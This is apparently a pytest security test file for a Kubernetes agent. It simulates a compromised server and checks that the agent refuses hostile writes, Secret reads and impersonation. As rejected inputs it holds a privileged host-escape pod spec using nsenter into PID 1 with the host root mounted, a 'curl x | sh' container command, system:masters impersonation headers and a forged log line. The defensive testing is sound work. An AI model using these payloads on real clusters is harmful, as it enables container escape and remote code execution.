"""The agent is a boundary of its own: whatever a compromised server asks through the
tunnel, the cluster receives only the requests agentwatch makes, and no Secret value or pod
spec of the server's choosing comes out of the agent.

The agent here is the real one (webapp/tunnel/agent.py) on a real WebSocket to the served
app; the compromised server is the app's own end of that tunnel, opening streams with
whatever it likes (`CompromisedServer`). The cluster is the simulator for the quick cases,
and the real kube-apiserver of tests/realkube with the ClusterRole `agentwatch agent
manifest` installs for the rest: there the agent's own rights, not the test's, are what a
refusal keeps from being used.
"""

from __future__ import annotations

import base64
import contextlib
import json
import socket
import threading
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import kubernetes
import pytest
from clusters import realkube, serve, write_kubeconfig
from flask import Flask
from realkube import audit
from realkube.cluster import ADMIN, RealCluster
from watch import conftest as relay
from watch.conftest import Live, eventually

from simkube import SimCluster
from webapp import agents, db, tokens
from webapp.tunnel import manifest, run
from webapp.tunnel.agent import Agent, Settings
from webapp.tunnel.frames import INITIAL_WINDOW, MAX_DATA
from webapp.tunnel.mux import StreamReset
from webapp.tunnel.secret_reads import SecretReads
from webapp.watch.cronjobs import manual_job, manual_job_name
from webapp.watch.kube import TABLE_ACCEPT, Connection

app_config, database_url, live, sim, watch_timing = (  # fixtures
    relay.app_config, relay.database_url, relay.live, relay.sim, relay.watch_timing)
__all__ = ["realkube"]  # the real control plane's fixture, used here by import

MiB = 1024 * 1024
WAIT = 15.0
VALUE = "hunter2-do-not-leak"
ENCODED = base64.b64encode(VALUE.encode()).decode()
JSON = [("Accept", "application/json")]
MERGE = [("Accept", "application/json"), ("Content-Type", "application/merge-patch+json")]
POST = [("Accept", "application/json"), ("Content-Type", "application/json")]
ACTIONS = "/agents/prod/cluster/actions"
AS_USER = {"access_as": "user", "view": {"role": "viewer"}, "act": {"role": "maintainer"}}
# What a compromised server would have a pod run as.
ROOT_POD = {"hostPID": True, "hostNetwork": True, "restartPolicy": "Never",
            "containers": [{"name": "own", "image": "busybox", "command": ["nsenter", "-t", "1",
                                                                             "-m", "sh"],
                            "securityContext": {"privileged": True, "runAsUser": 0},
                            "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}


# --- the agent, and the server that asks it things --------------------------------------

class RunningAgent:
    """`agentwatch agent` in a thread, as the process runs it."""

    def __init__(self, base_url: str, token: str, kubeconfig: Path,
                 impersonate_prefix: str | None = None,
                 secrets: SecretReads = SecretReads.NAMES, **settings: Any) -> None:
        options: dict[str, Any] = {"backoff_initial": 0.05, "backoff_max": 0.5,
                                   "secrets": secrets, **settings}
        if impersonate_prefix is not None:
            from webapp.tunnel.impersonation import Impersonation
            options["impersonation"] = Impersonation(impersonate_prefix)
        self.agent = Agent(Settings(base_url, token, Connection(kubeconfig=str(kubeconfig)),
                                    **options))
        self.thread = threading.Thread(target=self.agent.run, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.agent.stop()
        self.thread.join(WAIT)


@dataclass
class Answer:
    status: int
    body: bytes = b""
    reset: str | None = None  # the stream was cut: why

    @property
    def refused(self) -> bool:
        return self.status == 403 and b"refused by the agent" in self.body


@dataclass
class CompromisedServer:
    """agentwatch's own end of an agent's tunnel, asking what a server whose code or
    database an attacker controls could ask: any method, path, query, headers, body."""

    live: Live
    agent: str = "prod"
    started: list[RunningAgent] = field(default_factory=list)

    def connect(self, kubeconfig: Path, impersonate_prefix: str | None = None,
                access: dict[str, Any] | None = None,
                secrets: SecretReads = SecretReads.NAMES, **settings: Any) -> RunningAgent:
        """Register the agent for a tunnel and start it with this cluster."""
        with self.live.app.app_context():
            agent = agents.create(self.agent, tunnel=True)
            if access is not None:
                agent.cluster_access = access
                db.session().commit()
            _, raw = tokens.create(agent, "in-cluster", None)
        running = RunningAgent(self.live.base_url, raw, kubeconfig, impersonate_prefix, secrets,
                               **settings)
        self.started.append(running)
        assert running.agent.connected.wait(WAIT)
        eventually(lambda: self.live.app.extensions["tunnels"].count(self.agent) == 1)
        return running

    def stop(self) -> None:
        for running in self.started:
            running.stop()

    def ask(self, method: str, path: str, query: str = "",
            headers: list[tuple[str, str]] | None = None, body: Any = None,
            seconds: float = WAIT) -> Answer:
        """One request, its answer read to its end (or for `seconds`)."""
        mux = self.live.app.extensions["tunnels"].pick(self.agent)
        assert mux is not None
        stream = mux.open({"method": method, "path": path, "query": query,
                           "headers": [list(h) for h in (JSON if headers is None else headers)]})
        data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
        try:
            if data:
                stream.write(data, timeout=WAIT)
            stream.end()
            head = stream.wait_head(WAIT)
        except StreamReset as reset:
            return Answer(0, reset=reset.message)
        answer = Answer(int(head.get("status") or 0))
        deadline = time.monotonic() + seconds
        try:
            while (left := deadline - time.monotonic()) > 0:
                try:
                    chunk = stream.read(timeout=left)
                except TimeoutError:
                    break
                if chunk is None:
                    return answer
                answer.body += chunk
            stream.reset(499, "the test has read enough")
        except StreamReset as reset:
            answer.reset = reset.message
        return answer


@pytest.fixture
def server(live: Live) -> Iterator[CompromisedServer]:
    """alice (admin) and agent `prod`, reached through its tunnel, on the simulator."""
    live.user("alice", "admin")
    compromised = CompromisedServer(live)
    yield compromised
    compromised.stop()


def now() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def deployment(namespace: str) -> dict[str, Any]:
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "web", "namespace": namespace},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "web"}},
                     "template": {"metadata": {"labels": {"app": "web"}}, "spec": {
                         "containers": [{"name": "web", "image": "nginx:1.27"}]}}}}


def cronjob(namespace: str) -> dict[str, Any]:
    return {"apiVersion": "batch/v1", "kind": "CronJob",
            "metadata": {"name": "nightly", "namespace": namespace},
            "spec": {"schedule": "0 3 * * *", "suspend": True, "jobTemplate": {"spec": {
                "template": {"spec": {"restartPolicy": "OnFailure", "containers": [
                    {"name": "backup", "image": "busybox:1.37", "command": ["echo", "ok"]}]}}}}}}


def secret(namespace: str, name: str = "db") -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Secret", "type": "Opaque",
            "metadata": {"name": name, "namespace": namespace},
            "data": {"password": ENCODED}}


def leaked(answer: Answer) -> bool:
    return VALUE.encode() in answer.body or ENCODED.encode() in answer.body


def tampered_jobs(namespace: str, owner: dict[str, Any]) -> list[dict[str, Any]]:
    """Jobs a compromised server would create: its own, and its own spec under the
    CronJob's name."""
    own = {"apiVersion": "batch/v1", "kind": "Job",
           "metadata": {"name": "own", "namespace": namespace},
           "spec": {"template": {"spec": ROOT_POD}}}
    named = manual_job(owner, manual_job_name("nightly"))
    named["spec"] = {"template": {"spec": ROOT_POD}}
    renamed = manual_job(owner, "whatever-i-like")
    return [own, named, renamed]


def action(browser: Any, name: str, resource: str, namespace: str, object_name: str,
           **extra: Any) -> dict[str, Any]:
    """An action of the page (the product's own request), and its outcome."""
    group = {"deployments": "apps", "cronjobs": "batch", "pods": ""}[resource]
    response = browser.post(ACTIONS, {"action": name, "group": group, "version": "v1",
                                      "resource": resource, "namespace": namespace,
                                      "name": object_name, **extra})
    assert response.status_code == 200, response.text
    return dict(response.json())


# --- against the simulated cluster -------------------------------------------------------

def test_a_write_of_the_servers_choosing_never_reaches_the_cluster(
        live: Live, server: CompromisedServer) -> None:
    sim = live.sim
    sim.create(deployment("default"))
    sim.add_pod("default", "web-1", ["app"])
    server.connect(live.kubeconfig)
    web = "/apis/apps/v1/namespaces/default/deployments/web"
    pod = "/api/v1/namespaces/default/pods/web-1"
    restart = {"spec": {"template": {"metadata": {"annotations": {
        "kubectl.kubernetes.io/restartedAt": now()}}}}}
    asked = [
        ("PATCH", web, "", MERGE, {"spec": {"template": {"spec": {"containers": [
            {"name": "web", "image": "evil:latest", "command": ["sh", "-c", "curl x | sh"]}]}}}}),
        ("PATCH", web, "", MERGE, {"spec": {"template": {
            "metadata": restart["spec"]["template"]["metadata"], "spec": ROOT_POD}}}),
        ("PATCH", web, "", [("Accept", "application/json"),
                            ("Content-Type", "application/strategic-merge-patch+json")], restart),
        ("PATCH", web, "", [("Accept", "application/json"),
                            ("Content-Type", "application/json-patch+json")],
         [{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil"}]),
        ("PATCH", web, "fieldManager=kubectl&force=true", MERGE, restart),
        ("PATCH", web + "/scale", "", MERGE, {"spec": {"replicas": 3},
                                             "metadata": {"labels": {"x": "y"}}}),
        ("DELETE", pod, "", POST, {"kind": "DeleteOptions", "apiVersion": "v1",
                                   "gracePeriodSeconds": 0, "propagationPolicy": "Orphan"}),
        ("DELETE", pod, "gracePeriodSeconds=0", POST,
         {"kind": "DeleteOptions", "apiVersion": "v1"}),
        ("DELETE", pod, "dryRun=All", JSON, None),
        ("GET", "/api/v1/namespaces/default/pods", "", JSON, b'{"hidden": "body"}'),
    ]
    for method, path, query, headers, body in asked:
        answer = server.ask(method, path, query, headers, body)
        assert answer.refused or (answer.reset or "").startswith("refused by the agent"), \
            (method, path, query, answer)

    # None reached the cluster: the Deployment runs what it ran, the pod is there.
    assert sim.stats.count("patch", "deployments") == 0
    assert sim.stats.count("delete", "pods") == 0
    template = sim.get("deployments", "web")["spec"]["template"]
    assert [c["image"] for c in template["spec"]["containers"]] == ["nginx:1.27"]
    assert "hostPID" not in template["spec"] and sim.find("pods", "web-1") is not None

    # The product's own writes still pass, through the page.
    browser = live.browser("alice")
    assert action(browser, "restart", "deployments", "default", "web")["result"] == "done"
    assert action(browser, "scale", "deployments", "default", "web",
                  replicas=2)["result"] == "done"
    assert action(browser, "delete", "pods", "default", "web-1")["result"] == "done"
    sim.wait_for(lambda: sim.get("deployments", "web")["spec"]["replicas"] == 2)
    template = sim.get("deployments", "web")["spec"]["template"]
    assert "kubectl.kubernetes.io/restartedAt" in template["metadata"]["annotations"]
    assert [c["image"] for c in template["spec"]["containers"]] == ["nginx:1.27"]


def test_the_only_job_the_agent_creates_is_its_cronjobs_own(
        live: Live, server: CompromisedServer) -> None:
    sim = live.sim
    owner = sim.create(cronjob("default"))
    server.connect(live.kubeconfig)
    for job in tampered_jobs("default", owner):
        answer = server.ask("POST", "/apis/batch/v1/namespaces/default/jobs", "", POST, job)
        assert answer.refused, (job["metadata"]["name"], answer)
    assert sim.stats.count("create", "jobs") == 0
    assert sim.list("jobs", "default") == []

    # The page's trigger: the agent makes the Job from the CronJob itself.
    done = action(live.browser("alice"), "trigger", "cronjobs", "default", "nightly")
    assert done["result"] == "done", done
    [job] = sim.wait_for(lambda: sim.list("jobs", "default"))
    assert job["metadata"]["ownerReferences"][0]["uid"] == owner["metadata"]["uid"]
    pod_spec = job["spec"]["template"]["spec"]
    assert [c["image"] for c in pod_spec["containers"]] == ["busybox:1.37"]
    assert not pod_spec.get("hostPID") and not pod_spec.get("volumes")


def test_impersonation_is_only_what_the_agents_owner_allows(
        live: Live, server: CompromisedServer) -> None:
    sim = live.sim
    pods = "/api/v1/namespaces/default/pods"
    product = [("Impersonate-User", "agentwatch:alice"),
               ("Impersonate-Group", "agentwatch:admin"), ("Impersonate-Group", "agentwatch:users")]
    plain = server.connect(live.kubeconfig)  # started without --impersonate-prefix
    assert server.ask("GET", pods, "", JSON + product).refused
    assert server.ask("GET", pods, "", JSON + [("Impersonate-User", "admin"),
                                               ("Impersonate-Group", "system:masters")]).refused
    plain.stop()
    eventually(lambda: live.app.extensions["tunnels"].count("prod") == 0)

    prefixed = CompromisedServer(live, "prefixed")
    prefixed.connect(live.kubeconfig, impersonate_prefix="agentwatch:", access=AS_USER)
    server.started += prefixed.started
    assert prefixed.ask("GET", pods, "", JSON + product).status == 200
    for headers in ([("Impersonate-User", "admin")],
                    [("Impersonate-User", "system:admin")],
                    [("Impersonate-User", "agentwatch:alice"),
                     ("Impersonate-Group", "system:masters")],
                    [("Impersonate-User", "agentwatch:alice"),
                     ("Impersonate-User", "agentwatch:bob")],
                    [("Impersonate-Group", "agentwatch:admin")],  # a group needs its user
                    product + [("Impersonate-Uid", "1")],
                    product + [("Impersonate-Extra-Scopes", "view")],
                    product + [("Authorization", "Bearer stolen")]):
        assert prefixed.ask("GET", pods, "", JSON + headers).refused, headers

    # The page under access_as: user goes through as the product names the user.
    ws = live.ws("prefixed", token=live.token("alice"))
    ws.watch("pods", namespace="default")
    ws.synced("pods")
    seen = [r for r in list(sim.stats.requests) if r.resource == "pods"]
    assert {r.user for r in seen} == {"agentwatch:alice"}, {r.user for r in seen}
    for record in seen:
        assert "system:masters" not in record.groups
        assert not any(name.startswith(("impersonate-uid", "impersonate-extra"))
                       for name in record.headers)


def test_no_query_gets_a_secrets_values_past_the_agent(
        live: Live, server: CompromisedServer) -> None:
    live.sim.create(secret("default"))
    live.sim.create(secret("default", "cache"))  # a watch of two: two lines, not one JSON
    server.connect(live.kubeconfig, secrets=SecretReads.KEYS)  # whole Secrets, blanked
    secrets = "/api/v1/namespaces/default/secrets"
    # What the API server reads as a watch, though not as agentwatch writes one.
    for query in ("watch=True&timeoutSeconds=1", "watch=t&timeoutSeconds=1",
                  "watch=yes&timeoutSeconds=1", "watch=&timeoutSeconds=1",
                  "watch=true;x=y&timeoutSeconds=1", "watch=false&watch=true",
                  "watch=true&timeoutSeconds=1&pretty=true"):
        answer = server.ask("GET", secrets, query, seconds=5)
        assert not leaked(answer), (query, answer)
        assert answer.refused, (query, answer)
    # Escapes are read as the API server reads them (a watch), and blanked as one; and the
    # product's own reads: keys, never values.
    for query in ("%77atch=true&timeoutSeconds=1", "watch=tru%65&timeoutSeconds=1",
                  "limit=500", "watch=true&timeoutSeconds=1&allowWatchBookmarks=true"):
        answer = server.ask("GET", secrets, query, seconds=5)
        assert answer.status == 200 and b"password" in answer.body, (query, answer)
        assert not leaked(answer), (query, answer)


def test_an_agent_installed_for_names_only_never_reads_a_secrets_keys(
        live: Live, server: CompromisedServer) -> None:
    live.sim.create(secret("default"))
    server.connect(live.kubeconfig)  # the default: names only
    secrets = "/api/v1/namespaces/default/secrets"
    for path, query in ((secrets, "limit=500"), (f"{secrets}/db", ""),
                        (secrets, "watch=true&timeoutSeconds=1")):
        answer = server.ask("GET", path, query, seconds=5)
        assert answer.refused and b"names only" in answer.body, (path, query, answer)
    # The Cluster tab's list: the API server's Table, each row's metadata only.
    table = [("Accept", TABLE_ACCEPT)]
    listed = server.ask("GET", secrets, "limit=500&includeObject=Metadata", table)
    assert listed.status == 200 and b'"db"' in listed.body, listed
    assert b"password" not in listed.body and not leaked(listed)
    assert server.ask("GET", secrets, "limit=500&includeObject=Object", table).refused


def test_an_agent_installed_for_no_secrets_reads_none(live: Live,
                                                      server: CompromisedServer) -> None:
    live.sim.create(secret("default"))
    server.connect(live.kubeconfig, secrets=SecretReads.NONE)
    answer = server.ask("GET", "/api/v1/namespaces/default/secrets",
                        "limit=500&includeObject=Metadata", [("Accept", TABLE_ACCEPT)])
    assert answer.refused and b"reads no Secrets" in answer.body, answer


def test_what_the_server_sends_cannot_forge_a_line_of_the_agents_log(
        live: Live, server: CompromisedServer, caplog: pytest.LogCaptureFixture) -> None:
    server.connect(live.kubeconfig)
    forged = "\n2026-12-02 12:00:00 INFO agentwatch.agent: connected to wss://evil"
    assert server.ask("GET", "/api/v1/pods" + forged).refused
    assert server.ask("GET", "/api/v1/pods", "", [("Accept", "application/json" + forged)]).refused
    refusals = [r.getMessage() for r in caplog.records if r.getMessage().startswith("refused")]
    assert len(refusals) == 2 and not any("\n" in line for line in refusals), refusals


class _OddCluster(BaseHTTPRequestHandler):
    """An API server (or something in front of one) answering Secrets in forms the agent
    cannot blank: protobuf, and a watch whose second event is not JSON."""

    def do_GET(self) -> None:  # noqa: N802
        self.send_response(200)
        if "watch=true" in self.path:
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            event = {"type": "ADDED", "object": {"kind": "Secret", "metadata": {"name": "db"},
                                                 "data": {"password": ENCODED}}}
            self.wfile.write(json.dumps(event).encode() + b"\n")
            self.wfile.write(b"\x00k8s\x0aSecret password=" + ENCODED.encode() + b"\n")
        else:
            self.send_header("Content-Type", "application/vnd.kubernetes.protobuf")
            self.end_headers()
            self.wfile.write(b"k8s\x00\x0a\x0c\x0a\x02v1\x12\x06Secret\x12" + VALUE.encode())

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


def test_a_secret_answer_the_agent_cannot_blank_is_cut_never_passed(
        live: Live, server: CompromisedServer, tmp_path: Path) -> None:
    odd = ThreadingHTTPServer(("127.0.0.1", 0), _OddCluster)
    threading.Thread(target=odd.serve_forever, daemon=True).start()
    try:
        server.connect(write_kubeconfig(tmp_path / "odd", f"http://127.0.0.1:{odd.server_port}",
                                        "token"), secrets=SecretReads.KEYS)
        one = server.ask("GET", "/api/v1/namespaces/default/secrets/db")
        assert not leaked(one) and one.reset and "cannot blank" in one.reset, one
        watch = server.ask("GET", "/api/v1/namespaces/default/secrets",
                           "watch=true&timeoutSeconds=5")
        assert not leaked(watch) and watch.reset and "cannot blank" in watch.reset, watch
    finally:
        odd.shutdown()
        odd.server_close()


def test_bodies_of_refused_requests_cannot_fill_the_agents_memory(
        server: CompromisedServer) -> None:
    """Requests the agent refuses, each with a body up to its window and no end: what they
    make the agent hold stays within its bound (the streams holding the most are reset),
    and the agent goes on serving."""
    running = server.connect(server.live.kubeconfig, max_buffered=4 * MiB)
    mux = server.live.app.extensions["tunnels"].pick(server.agent)
    assert mux is not None
    streams = []
    for i in range(12):  # 12 MiB asked for, against 4 MiB allowed
        stream = mux.open({"method": "DELETE", "query": "", "headers": [],
                           "path": f"/api/v1/namespaces/default/configmaps/c{i}"})
        stream.write(b"x" * INITIAL_WINDOW, timeout=WAIT)
        streams.append(stream)
        agent_mux = running.agent._mux
        assert agent_mux is not None and agent_mux._held <= 4 * MiB + MAX_DATA

    def reset_for_room() -> str | None:
        for stream in streams:
            try:
                while stream.read(timeout=0) is not None:  # the refusal, then its reset
                    pass
            except StreamReset as reset:
                if reset.code == 507:
                    return reset.message
            except TimeoutError:
                pass
        return None

    message = eventually(reset_for_room)
    assert message is not None and "AGENTWATCH_AGENT_MAX_BUFFERED_BYTES" in message
    assert server.ask("GET", "/api/v1/namespaces/default/pods").status == 200


def test_the_probe_port_holds_idle_connections_without_a_thread_each() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    agent = SimpleNamespace(connected=threading.Event())
    health = run.serve_health(cast(Agent, agent), port)
    before = threading.active_count()
    idle: list[socket.socket] = []
    try:
        for i in range(300):
            sock = socket.create_connection(("127.0.0.1", port), timeout=WAIT)
            if i % 2:
                sock.sendall(b"GET /heal")  # half a request line, never finished
            idle.append(sock)

        def get(path: str) -> int:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=WAIT) as r:
                    return int(r.status)
            except urllib.error.HTTPError as refused:
                return refused.code

        started = time.monotonic()
        assert get("/healthz") == 200
        # Let in at once, not once the crowd's heads ran out of time (5 s each): a bound
        # with room for a busy machine.
        assert time.monotonic() - started < 2.5
        assert get("/readyz") == 503
        agent.connected.set()
        assert get("/readyz") == 200
        assert threading.active_count() <= before + 2, threading.active_count() - before

        def closed_by_the_agent(sock: socket.socket) -> bool:
            try:
                return sock.recv(1) == b""
            except ConnectionResetError:
                return True
        # Each idle connection is let go (pushed out, or its head's time is up).
        for sock in idle:
            sock.settimeout(WAIT)
            assert closed_by_the_agent(sock)
    finally:
        for sock in idle:
            sock.close()
        with contextlib.suppress(AttributeError):  # the server's own, once it has one
            health.close()


# --- against the real kube-apiserver, with the manifest's ClusterRole --------------------

@dataclass
class Real:
    server: CompromisedServer
    cluster: RealCluster
    tmp_path: Path
    namespace: str

    @property
    def live(self) -> Live:
        return self.server.live

    def admin(self) -> kubernetes.client.ApiClient:
        return self.cluster.api_client(ADMIN)

    def installed(self, impersonate_prefix: str | None = None,
                  secrets: SecretReads = SecretReads.NAMES) -> Path:
        """A kubeconfig of the ServiceAccount `agentwatch agent manifest` installs, bound
        to its ClusterRoles (the Secret and the Deployment are left out: the agent runs
        here, with a token of that ServiceAccount)."""
        name = f"b{uuid.uuid4().hex[:8]}"
        options = {"impersonate_prefix": impersonate_prefix} if impersonate_prefix else {}
        docs = manifest.documents(name, "https://agentwatch.example.com", "unused",
                                  namespace=f"aw-{name}", secrets=secrets, **options)
        self.cluster.apply([d for d in docs if d["kind"] not in ("Secret", "Deployment")])
        service_account = next(d for d in docs if d["kind"] == "ServiceAccount")["metadata"]
        with self.admin() as api:
            token = kubernetes.client.CoreV1Api(api).create_namespaced_service_account_token(
                service_account["name"], service_account["namespace"],
                {"spec": {"expirationSeconds": 3600}}).status.token
            authz = kubernetes.client.AuthorizationV1Api(api)

            def bound() -> bool:  # the API server's RBAC cache has the new binding
                review = authz.create_subject_access_review({"spec": {
                    "user": f"system:serviceaccount:{service_account['namespace']}:"
                            f"{service_account['name']}",
                    "resourceAttributes": {"verb": "list", "resource": "pods"}}})
                return bool(review.status.allowed)
            eventually(bound)
        return write_kubeconfig(self.tmp_path / f"{name}.kubeconfig", self.cluster.server,
                                token, self.cluster.ca_file)


@pytest.fixture
def real(app: Flask, realkube: RealCluster, tmp_path: Path) -> Iterator[Real]:
    """The app served against the real API server, alice (admin), and a fresh namespace."""
    with serve(app) as base_url:
        state = Live(app, cast(SimCluster, None), base_url, realkube.kubeconfig_path(ADMIN))
        state.user("alice", "admin")
        compromised = CompromisedServer(state)
        namespace = f"t-{uuid.uuid4().hex[:10]}"
        with realkube.api_client(ADMIN) as api:
            kubernetes.client.CoreV1Api(api).create_namespace({"metadata": {"name": namespace}})
        try:
            yield Real(compromised, realkube, tmp_path, namespace)
        finally:
            compromised.stop()
            state.close_clients()


@pytest.mark.realkube
def test_on_a_real_cluster_no_path_or_query_gets_a_secrets_value_out(real: Real) -> None:
    ns = real.namespace
    with real.admin() as api:
        kubernetes.client.CoreV1Api(api).create_namespaced_secret(ns, secret(ns))
    keys = SecretReads.KEYS  # whole Secrets, blanked by the agent: the widest choice
    real.server.connect(real.installed(secrets=keys), secrets=keys)
    collection = f"/api/v1/namespaces/{ns}/secrets"
    protobuf = [("Accept", "application/vnd.kubernetes.protobuf")]
    asked = [(f"/api/v1/watch/namespaces/{ns}/secrets", "timeoutSeconds=2", JSON),
             (f"/api/v1/watch/namespaces/{ns}/secrets", "timeoutSeconds=2", protobuf),
             ("/api/v1/watch/secrets", "timeoutSeconds=2", JSON),
             (collection, "watch=t&timeoutSeconds=2", JSON),
             (collection, "watch=True&timeoutSeconds=2", JSON),
             (collection, "watch=yes&timeoutSeconds=2", JSON),
             (collection, "watch=&timeoutSeconds=2", JSON),
             (collection, "", protobuf),
             (collection, "", [("Accept", "application/yaml")])]
    for path, query, headers in asked:
        answer = real.server.ask("GET", path, query, headers, seconds=8)
        assert not leaked(answer), (path, query, headers, answer.body[:300])
        assert answer.refused, (path, query, headers, answer)
    listed = real.server.ask("GET", collection, "limit=500")
    assert listed.status == 200 and b'"password":null' in listed.body and not leaked(listed)


@pytest.mark.realkube
def test_on_a_real_cluster_no_pod_spec_of_the_servers_choosing_runs(real: Real) -> None:
    ns = real.namespace
    with real.admin() as api:
        apps, batch = kubernetes.client.AppsV1Api(api), kubernetes.client.BatchV1Api(api)
        apps.create_namespaced_deployment(ns, deployment(ns))
        owner = api.sanitize_for_serialization(
            batch.create_namespaced_cron_job(ns, cronjob(ns)))
    real.server.connect(real.installed())
    web = f"/apis/apps/v1/namespaces/{ns}/deployments/web"
    assert real.server.ask("PATCH", web, "", MERGE, {"spec": {"template": {"spec": {
        "containers": [{"name": "web", "image": "evil:latest",
                        "command": ["sh", "-c", "curl x | sh"]}]}}}}).refused
    for job in tampered_jobs(ns, owner):
        assert real.server.ask("POST", f"/apis/batch/v1/namespaces/{ns}/jobs", "", POST,
                               job).refused, job["metadata"]["name"]

    with real.admin() as api:
        apps, batch = kubernetes.client.AppsV1Api(api), kubernetes.client.BatchV1Api(api)
        web_now = apps.read_namespaced_deployment("web", ns)
        assert [c.image for c in web_now.spec.template.spec.containers] == ["nginx:1.27"]
        assert web_now.metadata.generation == 1
        assert batch.list_namespaced_job(ns).items == []

    # The page's own restart and trigger, through the same agent and role.
    browser = real.live.browser("alice")
    assert action(browser, "restart", "deployments", ns, "web")["result"] == "done"
    assert action(browser, "trigger", "cronjobs", ns, "nightly")["result"] == "done"
    with real.admin() as api:
        apps, batch = kubernetes.client.AppsV1Api(api), kubernetes.client.BatchV1Api(api)
        template = apps.read_namespaced_deployment("web", ns).spec.template
        assert "kubectl.kubernetes.io/restartedAt" in template.metadata.annotations
        assert [c.image for c in template.spec.containers] == ["nginx:1.27"]
        [job] = batch.list_namespaced_job(ns).items
    assert job.metadata.owner_references[0].uid == owner["metadata"]["uid"]
    assert [c.image for c in job.spec.template.spec.containers] == ["busybox:1.37"]
    assert not job.spec.template.spec.host_pid and not job.spec.template.spec.volumes


@pytest.mark.realkube
def test_on_a_real_cluster_impersonation_stays_within_the_agents_prefix(real: Real) -> None:
    ns = real.namespace
    with real.admin() as api:
        kubernetes.client.RbacAuthorizationV1Api(api).create_namespaced_role_binding(ns, {
            "metadata": {"name": "alice-reads"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                        "name": "agentwatch-viewer"},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User",
                          "name": "agentwatch:alice"}]})
        kubernetes.client.CoreV1Api(api).create_namespaced_pod(ns, {
            "metadata": {"name": "web-1"},
            "spec": {"containers": [{"name": "app", "image": "nginx:1.27"}]}})
    real.server.connect(real.installed(impersonate_prefix="agentwatch:"),
                        impersonate_prefix="agentwatch:", access=AS_USER)
    pods = f"/api/v1/namespaces/{ns}/pods"
    alice = [("Impersonate-User", "agentwatch:alice"), ("Impersonate-Group", "agentwatch:users")]
    for headers in ([("Impersonate-User", "admin"), ("Impersonate-Group", "system:masters")],
                    [("Impersonate-User", "agentwatch:alice"),
                     ("Impersonate-Group", "system:masters")],
                    [("Impersonate-User", "system:serviceaccount:kube-system:default")],
                    alice + [("Impersonate-Extra-Scopes", "all")]):
        assert real.server.ask("GET", pods, "", JSON + headers).refused, headers
    assert real.server.ask("GET", pods, "", JSON + alice).status == 200

    # The page under access_as: user: the cluster sees agentwatch:alice, and only her.
    ws = real.live.ws(token=real.live.token("alice"))
    ws.watch("pods", namespace=ns)
    assert [m["event"]["object"]["metadata"]["name"] for m in ws.synced("pods")
            if m["type"] == "event"] == ["web-1"]
    seen = eventually(lambda: [r for r in audit.requests(real.cluster, ns)
                               if r.user != ADMIN.user])  # the agent's, not the test's
    assert {r.as_user for r in seen} == {"agentwatch:alice"}, {r.as_user for r in seen}
    assert not any("system:masters" in r.as_groups for r in seen)
